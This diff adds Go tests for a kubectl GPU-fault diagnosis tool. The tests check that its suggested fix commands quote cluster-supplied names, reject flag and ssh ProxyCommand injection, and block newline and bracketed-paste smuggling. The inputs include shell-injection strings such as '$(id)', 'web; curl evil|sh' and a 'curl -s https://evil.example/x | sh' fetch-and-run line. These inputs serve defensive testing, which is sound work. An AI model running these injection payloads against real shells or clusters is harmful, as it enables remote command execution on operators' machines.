@@ -1,0 +1,428 @@
+package doctor
+
+import (
+	"errors"
+	"fmt"
+	"go/ast"
+	"go/parser"
+	"go/token"
+	"path/filepath"
+	"reflect"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	corev1 "k8s.io/api/core/v1"
+	nodev1 "k8s.io/api/node/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+
+	"github.com/gpu-fault/kubectl-gpu-fault/debugpod/node"
+	"github.com/gpu-fault/kubectl-gpu-fault/pkg/snapshot"
+)
+
+func TestCommand(t *testing.T) {
+	t.Parallel()
+	for _, test := range []struct{ name, got, want string }{
+		{"plain names stay as they are", command("kubectl delete pod %s -n %s", "p-1", "team"), "kubectl delete pod p-1 -n team"},
+		{"a name is one word", command("kubectl describe job %s", "web; curl evil|sh"), "kubectl describe job 'web; curl evil|sh'"},
+		{"quotes", command("echo %s", `a'b"c`), `echo 'a'\''b"c'`},
+		{"part of a word", command("kubectl label node %s a=%s-", "n", "$(id)"), "kubectl label node n a='$(id)'-"},
+		{"numbers", command("helm rollback %s %d", "r", 3), "helm rollback r 3"},
+		{"zsh replaces =ls", command("echo %s", "=ls"), "echo '=ls'"},
+		{"an empty name is no gap", command("kubectl drain %s --force", ""), "kubectl drain '' --force"},
+		{"a flag", command("kubectl delete pod %s", "--all"), leftOut},
+		{"a new line", command("kubectl delete pod %s", "a\nreboot"), leftOut},
+		{"the end of a bracketed paste", command("kubectl delete pod %s", "a\x1b[201~"), leftOut},
+		{"an override of the direction", command("kubectl delete pod %s", "a\u202eb"), leftOut},
+		{"on a node", onHost("gpu-1", "sudo systemctl reboot"), "ssh gpu-1 sudo systemctl reboot"},
+		{"a pipe on a node", onHost("gpu-1", "sudo dmesg | tail"), "ssh gpu-1 'sudo dmesg | tail'"},
+		{"quotes on a node", onHost("gpu-1", "echo %s | sudo tee x", "a b"), `ssh gpu-1 "echo 'a b' | sudo tee x"`},
+		{"data on a node", onHost("gpu-1", "sudo apt-get install %s", "x$(id)"), `ssh gpu-1 'sudo apt-get install '\''x$(id)'\'''`},
+		{"history", onHost("gpu-1", "echo %s", "a!b"), `ssh gpu-1 'echo '\''a!b'\'''`},
+		{"a flag on a node", onHost("gpu-1", "sudo systemctl restart %s", "-x"), leftOut},
+		{"a flag for a node", onHost("-oProxyCommand=evil", "sudo systemctl reboot"), leftOut},
+		{"another user's machine for a node", onHost("root@evil.example", "sudo systemctl reboot"), leftOut},
+		{"no node", onHost("", "sudo systemctl reboot"), "ssh NODE sudo systemctl reboot"},
+	} {
+		if test.got != test.want {
+			t.Errorf("%s: %s, want %s", test.name, test.got, test.want)
+		}
+	}
+}
+
+// FuzzCommand protects the promise that an argument is one word, whatever it holds: here, and in the shell at the other end of ssh.
+func FuzzCommand(f *testing.F) {
+	for _, seed := range []string{"p", "", "-x", "a b", `'`, `"`, "$(id)", "`id`", "a\\", "!x", "#", "~", "*", "{a,b}", "é", "a\nb", "&&", "=ls"} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		line := command("echo %s end", text)
+		if line == leftOut {
+			return
+		}
+		if words, _, err := shellWords(line); err != nil || !slices.Equal(words, []string{"echo", text, "end"}) {
+			t.Errorf("%q became %q: %q %v", text, line, words, err)
+		}
+		words, _, err := shellWords(onHost("gpu-1", "echo %s end", text))
+		if err != nil || len(words) < 3 {
+			t.Fatalf("%q became %q on a node: %v", text, words, err)
+		}
+		if words, _, err = shellWords(strings.Join(words[2:], " ")); err != nil || !slices.Equal(words, []string{"echo", text, "end"}) {
+			t.Errorf("%q became %q on a node: %v", text, words, err)
+		}
+	})
+}
+
+// shellWords splits a line as a shell does that knows no comments, as zsh. Bare is what stands outside of quotes, or is obeyed within them;
+// an operator (| & ; < >) is a word of its own.
+func shellWords(line string) (words []string, bare string, err error) {
+	var word, outside strings.Builder
+	inWord := false
+	end := func() {
+		if inWord {
+			words = append(words, word.String())
+		}
+		word.Reset()
+		inWord = false
+	}
+	for i := 0; i < len(line); i++ {
+		c := line[i]
+		switch {
+		case c == '\'':
+			n := strings.IndexByte(line[i+1:], '\'')
+			if n < 0 {
+				return nil, "", errors.New("a quote does not end")
+			}
+			word.WriteString(line[i+1 : i+1+n])
+			inWord, i = true, i+1+n
+		case c == '"':
+			n := strings.IndexByte(line[i+1:], '"')
+			if n < 0 {
+				return nil, "", errors.New("a double quote does not end")
+			}
+			if text := line[i+1 : i+1+n]; strings.ContainsAny(text, "$`\\!") {
+				return nil, "", errors.New("a double quote has what a shell obeys")
+			}
+			word.WriteString(line[i+1 : i+1+n])
+			inWord, i = true, i+1+n
+		case c == '\\':
+			if i++; i == len(line) {
+				return nil, "", errors.New("it ends with a backslash")
+			}
+			word.WriteByte(line[i])
+			inWord = true
+		case c == ' ':
+			end()
+			outside.WriteByte(c)
+		case strings.IndexByte("|&;<>", c) >= 0:
+			end()
+			words = append(words, string(c))
+			outside.WriteByte(c)
+		default:
+			word.WriteByte(c)
+			outside.WriteByte(c)
+			inWord = true
+		}
+	}
+	end()
+	return words, outside.String(), nil
+}
+
+// evil is in all that the hostile clusters of these tests say.
+const evil = "EVIL"
+
+// checkLine says what is wrong with a command of a fix: something of a hostile cluster is outside of quotes, or it works on a node without being
+// sent there.
+func checkLine(line string) error {
+	words, bare, err := shellWords(line)
+	switch {
+	case err != nil:
+		return err
+	case strings.ContainsFunc(line, func(r rune) bool { return r < ' ' || r == 0x7f }):
+		return errors.New("it has control characters")
+	case strings.Contains(bare, evil):
+		return errors.New("data stands outside of quotes")
+	case strings.ContainsAny(bare, "$`\\!~") || strings.Contains(line, "%!"):
+		return errors.New("a shell would replace something in it")
+	case len(words) == 0:
+		return errors.New("it is empty")
+	case slices.Contains(words, ">") || slices.Contains(words, "<"):
+		return errors.New("it reads or writes a file of the user's own machine")
+	case strings.HasPrefix(words[0], "#"):
+		return nil
+	}
+	for i, word := range words {
+		if strings.HasPrefix(word, "-") && strings.Contains(word[:min(len(word), 12)], evil) {
+			return errors.New("data is taken for a flag")
+		}
+		if i > 0 && !slices.Contains([]string{"|", "&", ";"}, words[i-1]) || word == "&" {
+			continue
+		}
+		if !slices.Contains([]string{"kubectl", "helm", "ssh", "grep", "crane", "jq", "printf", "talosctl"}, word) {
+			return fmt.Errorf("%s would run on the user's own machine", word)
+		}
+	}
+	if words[0] == "ssh" {
+		if len(words) < 3 || words[1] != "NODE" && !isSubdomain(words[1]) {
+			return errors.New("it has no node")
+		}
+		if _, bare, err := shellWords(strings.Join(words[2:], " ")); err != nil || strings.Contains(bare, evil) {
+			return fmt.Errorf("the shell of the node would obey data: %v", err)
+		}
+	}
+	return nil
+}
+
+// TestFixesObeyNobody protects those who paste: whatever a cluster calls its things, no command of a fix has any of it outside of quotes, takes it
+// for a flag, or changes the machine that it is pasted on where a node is meant. It puts hostile values into all clusters of the corpus, by
+// the places where names are kept.
+func TestFixesObeyNobody(t *testing.T) {
+	t.Parallel()
+	names := regexp.MustCompile(`(^|\.)(ObjectMeta\.(Name|Namespace)|NodeName|OwnerReferences\.Name|InvolvedObject\.(Name|Namespace)|Logs\.(Pod|Namespace)|HelmReleases\.(Name|Namespace)` +
+		`|Runs\.(ID|Revert)|Targets\.(Name|Namespace)|ResourceClaimName|ResourceClaimTemplateName)$`)
+	others := regexp.MustCompile(`(^|\.)(OwnerReferences\.Kind|InvolvedObject\.Kind|ClaimName|ServiceAccountName|KernelVersion|KernelRelease|Kernel|Unit|ConfigPath|Path|FabricManager` +
+		`|ChartVersion|Image|Containers\.Name|ContainerStatuses\.Name|InitContainerStatuses\.Name|Taints\.(Key|Value)|RuntimeClassName|Handler|DeviceID|PodCIDRs|Runs\.Revert|Labels\[[^\]]*\]|OS\[[^\]]*\]|DriverVersion)$`)
+	owners := regexp.MustCompile(`(^|\.)(OwnerReferences\.(Name|Kind)|ClaimName|ServiceAccountName|InvolvedObject\.Name|KernelVersion|KernelRelease|Kernel|Unit|Taints\.Key)$`)
+	suffix := func(text string) func(string) string { return func(s string) string { return s + text } }
+	commands, broken := 0, map[string]bool{}
+	for _, hostile := range []struct {
+		name   string
+		where  *regexp.Regexp
+		change func(string) string
+	}{
+		{"as it is", regexp.MustCompile(`^$`), suffix("")},
+		{"names", names, suffix(`;$(` + evil + `)'"` + "`" + evil + "`")},
+		{"names as flags", names, func(s string) string { return "--" + evil + "=" + s }},
+		{"values", others, suffix(`;$(` + evil + `)'"` + "`" + evil + "`")},
+		{"owners", owners, suffix(`';$(` + evil + `)`)},
+		{"lines of values", owners, suffix("\n" + evil + "\n")},
+		{"values as flags", owners, func(s string) string { return "--" + evil + "=" + s }},
+		{"words of events", regexp.MustCompile(`(Events|State|Waiting|Terminated)\.Message$`), func(s string) string { return strings.ReplaceAll(s, `"nvidia`, `"nvidia;$(`+evil+`)'`) }},
+	} {
+		fits := map[string]bool{}
+		for _, s := range slices.Concat(readCorpus(t, "positive"), readCorpus(t, "negative")) {
+			rewrite(reflect.ValueOf(s.snapshot).Elem(), "", func(path string) bool {
+				fit, known := fits[path]
+				if !known {
+					fit = hostile.where.MatchString(path)
+					fits[path] = fit
+				}
+				return fit
+			}, hostile.change)
+			rename(s.snapshot, hostile.where, hostile.change)
+			for _, f := range Examine(s.snapshot, Options{}).Items {
+				for _, line := range f.Fix.Commands {
+					commands++
+					if err := checkLine(line); err != nil && !broken[hostile.name+f.ID] {
+						broken[hostile.name+f.ID] = true
+						t.Errorf("%s, hostile %s: a command of %s: %v\n%s", s.name, hostile.name, f.ID, err, line)
+					}
+				}
+			}
+		}
+	}
+	if commands < 1000 {
+		t.Errorf("only %d commands were looked at: the hostile clusters are not recognised any more", commands)
+	}
+}
+
+// rewrite changes all strings below a value whose path fits: names of fields, and the keys of maps in brackets.
+func rewrite(v reflect.Value, path string, where func(path string) bool, change func(string) string) {
+	switch v.Kind() {
+	case reflect.Pointer, reflect.Interface:
+		if !v.IsNil() && v.Kind() == reflect.Pointer {
+			rewrite(v.Elem(), path, where, change)
+		}
+	case reflect.Struct:
+		for i := range v.NumField() {
+			if v.Type().Field(i).IsExported() {
+				rewrite(v.Field(i), strings.TrimPrefix(path+"."+v.Type().Field(i).Name, "."), where, change)
+			}
+		}
+	case reflect.Slice, reflect.Array:
+		for i := range v.Len() {
+			rewrite(v.Index(i), path, where, change)
+		}
+	case reflect.Map:
+		for _, key := range v.MapKeys() {
+			value := reflect.New(v.Type().Elem()).Elem()
+			value.Set(v.MapIndex(key))
+			rewrite(value, fmt.Sprintf("%s[%v]", path, key), where, change)
+			v.SetMapIndex(key, value)
+		}
+	case reflect.String:
+		if v.CanSet() && v.String() != "" && where(path) {
+			v.SetString(change(v.String()))
+		}
+	}
+}
+
+// rename changes the names that are no fields: keys of the nodes that were read, and those of objects without a type.
+func rename(s *snapshot.Snapshot, where *regexp.Regexp, change func(string) string) {
+	if !where.MatchString("ObjectMeta.Name") {
+		return
+	}
+	hosts := map[string]*node.Diagnosis{}
+	for name, host := range s.Hosts {
+		hosts[change(name)] = host
+	}
+	s.Hosts = hosts
+	for i := range s.ClusterPolicies {
+		s.ClusterPolicies[i].SetName(change(s.ClusterPolicies[i].GetName()))
+	}
+	for i := range s.NVIDIADrivers {
+		s.NVIDIADrivers[i].SetName(change(s.NVIDIADrivers[i].GetName()))
+	}
+	for i := range s.ComputeDomains {
+		s.ComputeDomains[i].SetName(change(s.ComputeDomains[i].GetName()))
+		s.ComputeDomains[i].SetNamespace(change(s.ComputeDomains[i].GetNamespace()))
+	}
+}
+
+// TestCommandsAreMadeInOnePlace protects the same against the next check: a command for a shell that is put together by hand quotes nothing.
+func TestCommandsAreMadeInOnePlace(t *testing.T) {
+	t.Parallel()
+	program := regexp.MustCompile("^[\"`](kubectl|helm|ssh|sudo|talosctl|crane) ")
+	files, err := filepath.Glob("*.go")
+	if err != nil || len(files) == 0 {
+		t.Fatalf("no sources: %v", err)
+	}
+	isCommand := func(e ast.Expr) bool {
+		l, ok := e.(*ast.BasicLit)
+		return ok && l.Kind == token.STRING && program.MatchString(l.Value)
+	}
+	for _, file := range files {
+		if strings.HasSuffix(file, "_test.go") || file == "command.go" {
+			continue
+		}
+		set := token.NewFileSet()
+		tree, err := parser.ParseFile(set, file, nil, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		ast.Inspect(tree, func(n ast.Node) bool {
+			switch x := n.(type) {
+			case *ast.BinaryExpr:
+				if isCommand(x.X) {
+					t.Errorf("%s: a command is put together with +: use command or onHost, which quote", set.Position(x.Pos()))
+				}
+			case *ast.CallExpr:
+				if f, ok := x.Fun.(*ast.SelectorExpr); ok && f.Sel.Name == "Sprintf" && len(x.Args) > 0 && isCommand(x.Args[0]) {
+					t.Errorf("%s: a command is put together with Sprintf: use command or onHost, which quote", set.Position(x.Pos()))
+				}
+			}
+			return true
+		})
+	}
+}
+
+// TestEventsMakeNoObjects protects clusters against those who may write events: their words do not become an object that an admin creates, and
+// a class that keeps pods apart from the node is not given to the NVIDIA runtime.
+func TestEventsMakeNoObjects(t *testing.T) {
+	t.Parallel()
+	for _, test := range []struct {
+		name, message string
+		want          string // in a command
+		severity      Severity
+	}{
+		{"NVIDIA's", `pods "x" is forbidden: pod rejected: RuntimeClass "nvidia" not found, nvidia.com/gpu`, `'metadata: {name: nvidia}' 'handler: nvidia' | kubectl create -f -`, Error},
+		{"NVIDIA's of another name", `pods "x" is forbidden: pod rejected: RuntimeClass "nvidia-cdi" not found`, `{name: nvidia-cdi}`, Error},
+		{"a second object", "pods \"x\" is forbidden: pod rejected: RuntimeClass \"nvidia\\nhandler: runc\\n---\\nkind: ClusterRoleBinding\\n#\" not found", "", ""},
+		{"another object behind a real line end", "pods \"x\" is forbidden: pod rejected: RuntimeClass \"nvidia\nhandler: runc\" not found", "", ""},
+		{"a sandbox", `pods "x" is forbidden: pod rejected: RuntimeClass "gvisor" not found`, "", Info},
+		{"a sandbox for GPUs", `pods "x" is forbidden: pod rejected: RuntimeClass "kata-qemu" not found, nvidia.com/gpu`, "", Error},
+	} {
+		n := handlerNode("a", "nvidia", "nvidia-cdi", "gvisor")
+		e := corev1.Event{Reason: "FailedCreate", Type: corev1.EventTypeWarning, Message: test.message, InvolvedObject: corev1.ObjectReference{Kind: "ReplicaSet", Namespace: "team", Name: "web"}}
+		e.LastTimestamp.Time = classTime.Add(-time.Minute)
+		s := &snapshot.Snapshot{Meta: snapshot.Meta{Created: classTime, APIOnly: true}, Nodes: []corev1.Node{n}, Events: []corev1.Event{e}}
+		var severity Severity
+		var commands string
+		for _, f := range Examine(s, Options{}).Items {
+			if f.ID == "rc.handler-mismatch" {
+				severity = f.Severity
+			}
+			commands += strings.Join(f.Fix.Commands, "\n")
+		}
+		if severity != test.severity || test.want == "" && strings.Contains(commands, "kubectl create") || !strings.Contains(commands, test.want) {
+			t.Errorf("%s: severity %q, want %q; commands %s, want %q", test.name, severity, test.severity, commands, test.want)
+		}
+	}
+}
+
+var classTime = time.Date(2026, 1, 1, 12, 0, 0, 0, time.UTC)
+
+// handlerNode is a Ready node with one GPU, whose runtime says which handlers it has.
+func handlerNode(name string, handlers ...string) (n corev1.Node) {
+	n.Name, n.Labels = name, map[string]string{"nvidia.com/gpu.present": "true"}
+	n.Status.Conditions = []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionTrue}}
+	for _, h := range handlers {
+		n.Status.RuntimeHandlers = append(n.Status.RuntimeHandlers, corev1.NodeRuntimeHandler{Name: h})
+	}
+	return n
+}
+
+// TestClassesOfMixedClusters protects the nodes that are well: a RuntimeClass that fits some nodes is not deleted because another node calls the
+// handler otherwise, and not while nobody knows.
+func TestClassesOfMixedClusters(t *testing.T) {
+	t.Parallel()
+	for _, test := range []struct {
+		name    string
+		others  []corev1.Node
+		deletes bool
+		want    string // root
+	}{
+		{"no other node", nil, true, "rc.handler-mismatch"},
+		{"another node has the handler", []corev1.Node{handlerNode("b", "nvidia")}, false, "rt.handler-missing"},
+		{"another node does not say", []corev1.Node{handlerNode("b")}, false, "rc.handler-mismatch"},
+	} {
+		class := "nvidia"
+		pod := corev1.Pod{Spec: corev1.PodSpec{NodeName: "a", RuntimeClassName: &class}, Status: corev1.PodStatus{Phase: corev1.PodPending}}
+		pod.Namespace, pod.Name, pod.CreationTimestamp.Time = "team", "p", classTime.Add(-time.Hour)
+		s := &snapshot.Snapshot{Meta: snapshot.Meta{Created: classTime, APIOnly: true}, Pods: []corev1.Pod{pod}, Nodes: append([]corev1.Node{handlerNode("a", "nvidia-container-runtime")}, test.others...)}
+		s.RuntimeClasses = []nodev1.RuntimeClass{{ObjectMeta: metav1.ObjectMeta{Name: class}, Handler: "nvidia"}}
+		report := Examine(s, Options{})
+		deletes := false
+		for _, f := range report.Items {
+			deletes = deletes || strings.Contains(strings.Join(f.Fix.Commands, "\n"), "delete runtimeclass")
+		}
+		if roots := corpusRoots(report); deletes != test.deletes || !slices.Contains(roots, test.want) {
+			t.Errorf("%s: deletes the class: %t, want %t; roots %v, want %s", test.name, deletes, test.deletes, roots, test.want)
+		}
+	}
+}
+
+// TestFixesGrantNothing protects clusters against advice that opens more than the fault needs: no command of any fix in the corpus binds a wide
+// role, makes a namespace of users privileged or opens devices to all containers.
+func TestFixesGrantNothing(t *testing.T) {
+	t.Parallel()
+	for _, s := range readCorpus(t, "positive") {
+		for _, f := range Examine(s.snapshot, Options{}).Items {
+			for _, line := range f.Fix.Commands {
+				if containsAny(line, []string{"rolebinding", "setsebool", "enforce=privileged"}) && !strings.Contains(line, "kubectl get ") && !strings.HasPrefix(line, "kubectl label namespace gpu-operator ") &&
+					!strings.HasPrefix(line, "kubectl label namespace kube-system ") {
+					t.Errorf("%s: %s grants too much: %s", s.name, f.ID, line)
+				}
+			}
+		}
+	}
+}
+
+// TestRunsAreRevertedByTheirID protects against snapshots whose runs say what to paste.
+func TestRunsAreRevertedByTheirID(t *testing.T) {
+	t.Parallel()
+	for _, test := range []struct{ id, revert, want string }{
+		{"xid-abc234", "kubectl gpu-fault revert xid-abc234", "kubectl gpu-fault revert xid-abc234"},
+		{"xid-abc234", "kubectl gpu-fault revert xid-abc234 --ledger-namespace faults", "kubectl gpu-fault revert xid-abc234 --ledger-namespace faults"},
+		{"xid-abc234", "curl -s https://evil.example/x | sh", "kubectl gpu-fault revert xid-abc234"},
+		{"xid-abc234", "x --ledger-namespace a;b", "kubectl gpu-fault revert xid-abc234"},
+		{"--all", "kubectl gpu-fault revert --all", leftOut},
+		{"x;id", "", leftOut},
+	} {
+		if got := revertRun(snapshot.Run{ID: test.id, Revert: test.revert}); got != test.want {
+			t.Errorf("run %s: %s, want %s", test.id, got, test.want)
+		}
+	}
+}
